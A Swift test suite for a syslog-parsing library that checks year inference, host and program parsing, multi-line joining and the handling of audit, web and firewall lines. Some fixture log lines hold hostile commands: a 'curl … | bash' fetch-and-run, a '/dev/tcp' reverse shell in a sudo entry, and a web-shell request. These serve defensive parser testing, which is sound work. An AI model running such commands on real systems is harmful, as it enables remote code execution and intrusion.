import Bytes
import Evidence
import Testing

@testable import LogParse

/// What is remembered from line to line changes no line.
@Suite struct SyslogTests {
  private static let times = [
    "Nov 25 05:20:12", "Nov 25 23:59:59", "Nov 25 24:00:00", "Nov 25 05:20:60", "Nov 25 5:20:12", "Nov 25 05:20:12.5",
    "Nov 24 05:20:12", "Nov  1 00:00:00", "Dec 31 23:59:60", "Dec 31 23:59:59", "Jan  1 00:00:00", "Feb 29 12:00:00",
    "Feb 30 12:00:00", "Nov 25 2025 05:20:12", "<38>Dec 31 23:59:59", "<38>Jan  2 00:00:01", "Nov 26 05:20:12",
    "2026-11-25T05:20:12Z", "Jun 15 12:00:00",
  ]

  /// The time of each line as the settler alone has it.
  private func expected(_ lines: [String], _ context: ParseContext) -> [Timestamp?] {
    var years = YearSettler(context)
    years.lookAhead(
      lines.compactMap { line in
        line.withView { bytes in
          guard case .civil(let civil) = SyslogLine(bytes)?.time else { return nil }
          return civil
        }
      })
    return lines.compactMap { line -> Timestamp?? in
      line.withView { bytes -> Timestamp?? in
        guard let entry = SyslogLine(bytes) else { return nil }
        switch entry.time {
        case .civil(let civil): return .some(years.settle(civil))
        case .whole(let time): return .some(time)
        case .beyond: return .some(nil)
        }
      }
    }
  }

  @Test(arguments: ["2026-11-25T05:25:29Z", "2026-11-25T23:25:29Z", "2024-03-01T00:00:00Z", "1970-01-02T00:00:00Z", ""])
  func aDayThatIsRememberedGivesTheTimesOfTheCalendar(_ collected: String) throws {
    let context = ParseContext(path: "auth.log", zone: .inferred(540), collected: Timestamp(iso8601: collected))
    var random = Splitmix(seed: 11)
    for _ in 0..<200 {
      var lines: [String] = []
      for _ in 0..<40 {
        let time = Self.times[Int(random.next() % UInt64(Self.times.count))]
        // Most lines of a log are of the day of the line before.
        for _ in 0...(random.next() % 3) {
          lines.append("\(time) web-1 sshd[1]: Failed password for a from 1.2.3.4 port 1")
        }
      }
      let dump = try EventDump(
        lines.joined(separator: "\n"), path: "auth.log", format: SyslogFormat(), zone: context.zone,
        collected: context.collected)
      #expect(dump.events.map(\.time) == expected(lines, context))
    }
  }

  @Test func hostsAndProgramsThatChangeAreToldAsTheyAre() throws {
    let hosts = ["web-1", "web-10", "web", "INFO", "10.0.2.15", "web-1:", "a"]
    let tags = [
      "sshd[1]:", "sshd[-1]:", "sshd[12345678901]:", "sshd:", "CRON[2]:", "a[b]:", "[7]:", "kernel:", "x", "run(/a):",
    ]
    var random = Splitmix(seed: 3)
    let lines = (0..<2000).map { _ in
      let host = hosts[Int(random.next() % UInt64(hosts.count))]
      return "Nov 25 05:20:12 \(host) \(tags[Int(random.next() % UInt64(tags.count))]) text of it"
    }
    let whole = try EventDump(lines.joined(separator: "\n"), path: "messages", format: SyslogFormat())
    let single = try lines.flatMap { try EventDump($0, path: "messages", format: SyslogFormat()).events }
    #expect(whole.events.map(\.message) == single.map(\.message))
    #expect(whole.events.map(\.attributes) == single.map(\.attributes))
    #expect(whole.events.map(\.entities) == single.map(\.entities))
    #expect(single.count > 1000 && single.count < 2000)
  }

  @Test func eventsThatAreKeptStayAsTheyWere() throws {
    let lines = (0..<50).map {
      "Nov 25 05:20:12 web-1 sshd[\($0)]: Failed password for user\($0) from 1.2.3.\($0) port \($0)"
    }
    let dump = try EventDump(lines.joined(separator: "\n"), path: "auth.log")
    #expect(dump.events.map { $0.text("user") } == (0..<50).map { "user\($0)" })
    #expect(dump.events.map { $0.integer("pid") } == (0..<50).map { Int64($0) })
    #expect(dump.events.map { $0.locator.line } == (1...50).map { $0 })
  }

  /// Lines of every kind, in any order: of what is made in an earlier event's place, none may keep anything of it.
  @Test func eventsMadeInOnePlaceAreThoseThatAreKept() throws {
    let bodies = [
      "sshd[1]: Failed password for invalid user a from 1.2.3.4 port 1 ssh2",
      "sshd[2]: Failed password for root from ::1 port 2",
      "sshd[3]: Accepted publickey for ops from 10.1.0.9 port 3 ssh2: ED25519 SHA256:abc",
      "sshd[4]: Invalid user  from 1.2.3.4",
      "sshd: Connection closed by 1.2.3.4 port 4 [preauth]",
      "sshd[5]: pam_unix(sshd:session): session opened for user ops by (uid=0)",
      "sshd[6]: pam_unix(sshd:auth): authentication failure; logname= uid=0 tty=ssh rhost=1.2.3.4  user=root",
      "sudo:      ops : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/ls",
      "sudo:      ops : 3 incorrect password attempts ; TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/ls",
      "su: (to root) ops on pts/0", "CRON[7]: (root) CMD (run-parts /etc/cron.hourly)",
      "CRON[8]: pam_unix(cron:session): session closed for user root",
      "useradd[9]: new user: name=svc, UID=0, GID=0, home=/root, shell=/bin/bash",
      "systemd-logind[10]: New session 3 of user ops.",
      "kernel: [1.0] x", "sshd[11]: ", "x",
      "sshd[12]: message repeated 2 times: [ Failed password for root from 1.2.3.4 port 5 ssh2]",
      "app.service[13]: pam_x(y): z", "app.scope:  ops : TTY=a ; PWD=/ ; USER=root ; COMMAND=/bin/id",
    ]
    let times = [
      "Nov 25 05:20:12 web-1 ", "Nov 26 05:20:12 web-2 ", "<38>Nov 25 05:20:12 web-1 ", "2026-11-25T05:20:12Z a ",
    ]
    var random = Splitmix(seed: 5)
    let lines = (0..<5000).map { _ in
      times[Int(random.next() % 4)] + bodies[Int(random.next() % UInt64(bodies.count))]
    }
    let text = Array(lines.joined(separator: "\n").utf8)
    func read(_ sink: some ResultSink) throws {
      try SyslogFormat().parse(
        MemoryStream(text), ParseContext(path: "auth.log", zone: .inferred(0), collected: EventDump.collected),
        into: sink)
    }
    let (kept, written) = (CollectingSink(), WritingSink())
    try read(kept)
    try read(written)
    #expect(kept.events.count > 4000)
    #expect(written.lines == kept.events.map(WritingSink.line))
  }

  @Test func wordsOfTheCacheAreTheWordsThatWereAskedFor() {
    var cache = WordCache()
    var random = Splitmix(seed: 9)
    for _ in 0..<50_000 {
      let count = Int(random.next() % 19)
      // Few letters, so that words share beginnings, ends and places.
      let word = (0..<count).map { _ in [0x61, 0x62, 0xC3, 0x00][Int(random.next() % 4)] as UInt8 }
      word.withView { #expect(cache.text($0) == $0.string) }
    }
  }

  @Test func aTextCannotForgeALine() throws {
    let text =
      "Nov 25 05:20:12 web-1 sshd[1]: Invalid user a\u{1B}[2K\u{7}\rNov 25 05:20:13 web-1 sshd[2]: Accepted password for root from 1.2.3.4 port 1\u{0}\n"
    let one = try EventDump(text, path: "auth.log", format: SyslogFormat())
    #expect(one.events.count == 1)
    #expect(one.events.first?.integer("pid") == 1)
    #expect(one.events.first?.text("action") == "login_failed")
    // A real line break makes a second line, which lies where it says it lies.
    let two = try EventDump(text.replacing("\r", with: "\n"), path: "auth.log", format: SyslogFormat())
    #expect(two.events.map { $0.locator.text } == ["line=1;bytes=0+50", "line=2;bytes=51+78"])
  }

  @Test(arguments: [1, 700, 5000])
  func nulsThatACrashLeftHideNoLine(_ count: Int) throws {
    let line = "Nov 25 05:20:12 web-1 sshd[1]: Failed password for a from 1.2.3.4 port 1\n"
    let nuls = String(repeating: "\0", count: count)
    for text in [nuls + line + line, line + nuls + line, line + nuls + "\n" + line, line + line + nuls] {
      let dump = try EventDump(text, path: "var/log/auth.log")
      #expect(dump.format == "linux.syslog")
      #expect(dump.events.map { $0.text("remote_address") } == ["1.2.3.4", "1.2.3.4"])
      #expect(HostileInputTests.isWhole(dump, text.utf8.count))
    }
  }

  @Test func yearsOfAQuietLog() throws {
    let text = ["Oct 20", "Nov 20", "Feb 20", "Nov 20"].map { "\($0) 05:20:12 web-1 app[1]: a\n" }.joined()
    let dump = try EventDump(text, path: "var/log/syslog")
    #expect(dump.events.compactMap { $0.time?.description.prefix(7) } == ["2025-10", "2025-11", "2026-02", "2026-11"])
  }

  @Test func yearsOfALogThatIsLongerThanAFirstLook() throws {
    let months = (0..<35).map {
      ["Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"][$0 % 12]
    }
    let text = months.map { String(repeating: "\($0) 10 05:20:12 web-1 app[1]: a\n", count: 200) }.joined()
    let dump = try EventDump(text, path: "var/log/syslog")
    #expect(text.utf8.count > 1 << 17 && dump.events.count == 7000)
    #expect(dump.events.first?.time?.description == "2024-01-10T05:20:12Z")
    #expect(dump.events.last?.time?.description == "2026-11-10T05:20:12Z")
    #expect(HostileInputTests.isWhole(dump, text.utf8.count))
  }

  @Test func whatStandsInTheHostsPlaceAndIsNone() throws {
    func name(_ text: String) -> String? { EventDump.recognize(Array(text.utf8), path: "x.log")?.name }
    let time = "2026-11-25T05:20:28.123456Z"
    #expect(name("\(time) 8 [Note] [MY-010914] [Server] Access denied\n") == "app.log")
    #expect(name("\(time) stdout F hello\n") == "app.log")
    #expect(name("\(time) 8 sshd[7]: hello\n") == "linux.syslog")
    #expect(name("\(time) stdout sshd[7]: hello\n") == "linux.syslog")
    let dump = try EventDump("<38>1 \(time) - sshd 392 - - hello\n", path: "x.log")
    #expect(dump.format == "linux.syslog" && dump.events.first?.text("host") == nil)
    #expect(dump.events.first?.entities == [] && dump.events.first?.text("text") == "hello")
  }
}

/// Keeps no event: each is written when it comes.
private final class WritingSink: ResultSink {
  var lines: [String] = []

  static func line(_ event: Event) -> String {
    var out = JSONWriter()
    ResultLine.write(event, to: &out)
    return String(decoding: out.bytes, as: UTF8.self)
  }

  func event(_ event: Event) { lines.append(Self.line(event)) }
  func finding(_ finding: Finding) {}
  func coverage(_ coverage: Coverage) {}
  func row(view: String, json: [UInt8]) {}

  // MARK: Entries of several lines

  @Test func linesThatGoOnAreJoined() throws {
    let indent = String(repeating: " ", count: 30)
    let text = """
      Nov 25 05:21:12 web-1 app[1]: start
      \(indent)curl http://203.0.113.9/x | bash
      \(indent)  line3
      no line of syslog
      \(indent)lost
      Nov 25 05:21:13 web-1 app[1]: end

      """
    let dump = try EventDump(text, path: "messages", format: SyslogFormat())
    #expect(HostileInputTests.isWhole(dump, text.utf8.count))
    #expect(dump.events.map { $0.text("text") } == ["start\ncurl http://203.0.113.9/x | bash\n  line3", "end"])
    let lines = text.split(separator: "\n")
    #expect(dump.events.first?.locator.length == UInt64(lines.prefix(3).map { $0.utf8.count + 1 }.reduce(0, +) - 1))
    #expect(dump.coverages.count { $0.state == .skipped } == 1)
    // Without an end, an entry stays within its limit.
    let flood = try EventDump(
      "Nov 25 05:21:12 web-1 app[1]: a\n" + String(repeating: " bbbbbbbbb\n", count: 10_000), path: "messages",
      format: SyslogFormat())
    #expect(flood.events.count == 1 && (flood.events.first?.text("text")?.utf8.count ?? .max) <= 1 << 17)
  }

  @Test func whatSudoBreaksIsJoined() throws {
    let first = "Nov 25 05:20:12 web-1 sudo[7]:      ops : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/bash -c echo"
    let more =
      "Nov 25 05:20:12 web-1 sudo[7]:      ops : (command continued) a ; bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"
    let dump = try EventDump("\(first)\n\(more)\n", path: "auth.log")
    #expect(
      dump.events.map { $0.text("command") } == ["/bin/bash -c echo a ; bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"])
    // Of another process, or of another user, it is no part of it.
    for other in [more.replacing("sudo[7]", with: "sudo[8]"), more.replacing("ops :", with: "eve :")] {
      let apart = try EventDump("\(first)\n\(other)\n", path: "auth.log")
      #expect(apart.events.map { $0.text("command") } == ["/bin/bash -c echo", nil])
    }
  }

  @Test func linesWithoutAHost() throws {
    let text = """
      Nov 25 05:20:12 sshd[392]: Accepted password for root from 203.0.113.9 port 1 ssh2
      Nov 25 05:20:13 web-1 sshd[392]: x
      Nov 25 05:20:13 sudo[393]:      ops : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/sh
      Nov 25 05:20:13 last message repeated 3 times
      Nov 25 05:20:13 (none) kernel: Linux version
      Nov 25 05:20:13 web-1 sshd[392]: y
      <38>1 - web-1 sshd 392 - - z

      """
    let dump = try EventDump(text, path: "auth.log")
    #expect(dump.format == "linux.syslog")
    #expect(dump.events.map { $0.text("host") } == [nil, "web-1", nil, nil, nil, "web-1", "web-1"])
    #expect(dump.events.map { $0.text("program") } == ["sshd", "sshd", "sudo", nil, "kernel", "sshd", "sshd"])
    #expect(dump.events.first?.text("user") == "root" && dump.events.last?.time == nil)
    for line in ["Nov 25 05:20:12 ERROR: x", "Nov 25 05:20:12 [main]: x", "Nov 25 05:20:12 a[b]: x", "- web-1 sshd: x"]
    {
      #expect(line.withView { SyslogLine($0) == nil }, "\(line)")
    }
  }

  // MARK: What other logs hand to syslog

  private func event(_ rest: String) throws -> Event {
    try #require(try EventDump("Nov 25 05:20:12 web-1 \(rest)\n", path: "messages").events.first)
  }

  @Test func recordsOfTheAuditSystem() throws {
    let login =
      "USER_LOGIN pid=1300 uid=0 msg='op=login acct=\"root\" exe=\"/usr/sbin/sshd\" addr=203.0.113.9 res=failed'"
    let user = try event("audit[1234]: \(login)")
    #expect(user.dataType == "linux:audit:entry" && user.text("user") == "root" && user.text("result") == "failed")
    #expect(user.text("remote_address") == "203.0.113.9" && user.text("executable") == "/usr/sbin/sshd")
    #expect(user.integer("pid") == 1234 && user["serial"] == nil && user.text("host") == "web-1")
    let kernel = try event(#"kernel: [  1.5] audit: type=1400 audit(1795584012.123:12): apparmor="DENIED" comm="x""#)
    #expect(kernel["types"] == .texts(["AVC"]) && kernel.text("command") == "x")
    let call = try event(#"audispd: type=SYSCALL msg=audit(1795584012.123:456): syscall=59 exe="/usr/bin/bash""#)
    #expect(call.dataType == "linux:audit:syscall" && call.text("executable") == "/usr/bin/bash")
    let file = try event(#"tag_audit_log: type=SYSCALL msg=audit(1795584012.123:456): syscall=59 exe="/usr/bin/bash""#)
    #expect(file.dataType == "linux:audit:syscall" && file.integer("serial") == 456)
    #expect(try event("auditd[1]: The audit daemon is exiting.").dataType == "linux:syslog:entry")
    for line in ["audit[1]: backlog limit exceeded", "kernel: audit: initializing netlink subsys (disabled)"] {
      #expect(try event(line)["types"] == nil)
    }
    let journal = try EventDump(
      #"{"__REALTIME_TIMESTAMP":"1795584012123456","_TRANSPORT":"audit","_COMM":"sshd","MESSAGE":"\#(login.replacing("\"", with: "\\\""))"}"#,
      path: "journal.json")
    #expect(journal.events.first?.text("program") == "audit" && journal.events.first?.text("user") == "root")
  }

  @Test func requestsOfWebServers() throws {
    let line = #"203.0.113.9 - - [25/Nov/2026:05:20:30 +0000] "GET /cmd.jsp?c=id HTTP/1.1" 200 1 "-" "curl""#
    for program in ["nginx", "httpd[9]"] {
      let request = try event("\(program): \(line)")
      #expect(request.dataType == "web:access:request" && request.text("query") == "c=id")
      #expect(request.text("remote_address") == "203.0.113.9" && request.time?.description == "2026-11-25T05:20:30Z")
    }
    let proxy = try event(
      #"haproxy[1]: 203.0.113.9:5000 [25/Nov/2026:05:20:12.123] in web/s1 0/0/0/1/1 200 123 - - ---- 1/1/0/0/0 0/0 {a|} "GET /x?y HTTP/1.1""#
    )
    #expect(proxy.dataType == "web:access:request" && proxy.text("path") == "/x" && proxy.integer("status") == 200)
    #expect(proxy.text("remote_address") == "203.0.113.9" && proxy.integer("remote_port") == 5000)
    #expect(try event("haproxy[1]: Server web/s1 is DOWN").dataType == "linux:syslog:entry")
    let failed = try event("nginx: 2026/11/25 05:20:30 [error] 1#1: *4 open() failed, client: 203.0.113.9, server: _")
    #expect(failed.text("remote_address") == "203.0.113.9" && failed.dataType == "linux:syslog:entry")
    #expect(failed.entities.contains(Entity(.address, "203.0.113.9")))
    #expect(try event("nginx: a client: 203.0.113.9 came")["remote_address"] == nil)
    // Any other program may say what it likes.
    #expect(try event("app: \(line)").dataType == "linux:syslog:entry")
  }

  /// A web server's own pattern may begin with time and client: neither is a host's.
  @Test func aClientIsNoHost() {
    for (line, isSyslog) in [
      ("2026-11-25T05:20:12+00:00 203.0.113.9 \"GET /a HTTP/1.1\" 200 5", false),
      ("2026-11-25T05:20:12+00:00 203.0.113.9 app: \"GET /a HTTP/1.1\" 200 5", true),
      ("2026-11-25T05:20:12+00:00 web-1 \"quoted\" text", true),
    ] {
      #expect(
        (EventDump.recognize(Array("\(line)\n".utf8), path: "x.log")?.name == "linux.syslog") == isSyslog, "\(line)")
    }
  }

  /// The line that was being written has no end, and the first of the next boot stands behind the NULs.
  @Test func aLineThatWasNotFinishedHidesNotTheNext() throws {
    let line = "Nov 25 05:20:12 web-1 sshd[1]: Failed password for a from 1.2.3.4 port 1\n"
    let text = line + "Nov 25 05:20:12 web-1 sshd[1]: Fai" + String(repeating: "\0", count: 900) + line + line
    let dump = try EventDump(text, path: "var/log/auth.log")
    #expect(dump.events.map { $0.text("remote_address") } == ["1.2.3.4", nil, "1.2.3.4", "1.2.3.4"])
    #expect(dump.events.map { $0.text("text")?.utf8.contains(0) } == [false, false, false, false])
    #expect(dump.events[2].locator.offset == UInt64(line.utf8.count + 34 + 900))
    #expect(HostileInputTests.isWhole(dump, text.utf8.count))
    // A few are part of what somebody wrote.
    let few = try EventDump(
      line.replacing("for a", with: "for a\0\0" + String(repeating: "b", count: 300)), path: "auth.log")
    #expect(few.events.count == 1 && few.events.first?.text("text")?.utf8.contains(0) == true)
  }

  @Test func theYearMayStandBehindTheTime() throws {
    let event = try event("x").time
    let later = try EventDump(
      "Nov 25 05:20:12 2025 web-1 sshd[7]: Invalid user a from 1.2.3.4 port 1\n", path: "messages")
    #expect(
      later.events.first?.time?.description == "2025-11-25T05:20:12Z" && later.events.first?.text("host") == "web-1")
    #expect(later.events.first?["year"] == nil && later.events.first?.text("remote_address") == "1.2.3.4")
    let host = try EventDump("Nov 25 05:20:12 2200 sshd[7]: x\n", path: "messages")
    #expect(host.events.first?.text("host") == "2200" && host.events.first?.time == event)
  }

  @Test func addressesOfServers() throws {
    for line in [
      "postfix/smtpd[1]: connect from unknown[203.0.113.9]", "named[1]: client @0x7f 203.0.113.9#5000 (x): query: x",
      "named[1]: client 203.0.113.9#5000: x",
      "dovecot: imap-login: Login: user=<a, rip=1.2.3.4>, rip=203.0.113.9, lip=10.0.0.5",
    ] { #expect(try event(line).text("remote_address") == "203.0.113.9", "\(line)") }
    #expect(try event("postfix/smtpd[1]: x [y]")["remote_address"] == nil)
    let packet = try event(
      "kernel: [1.5] [UFW BLOCK] IN=eth0 OUT= SRC=203.0.113.9 DST=10.0.0.5 PROTO=TCP SPT=5000 DPT=22")
    #expect(packet.text("src_address") == "203.0.113.9" && packet.text("dst_address") == "10.0.0.5")
    #expect(packet.integer("src_port") == 5000 && packet.integer("dst_port") == 22 && packet.text("protocol") == "tcp")
    #expect(packet.text("rule") == "UFW BLOCK" && packet.entities.contains(Entity(.address, "203.0.113.9")))
    #expect(try event("kernel: x SRC=203.0.113.9")["src_address"] == nil)
  }
}
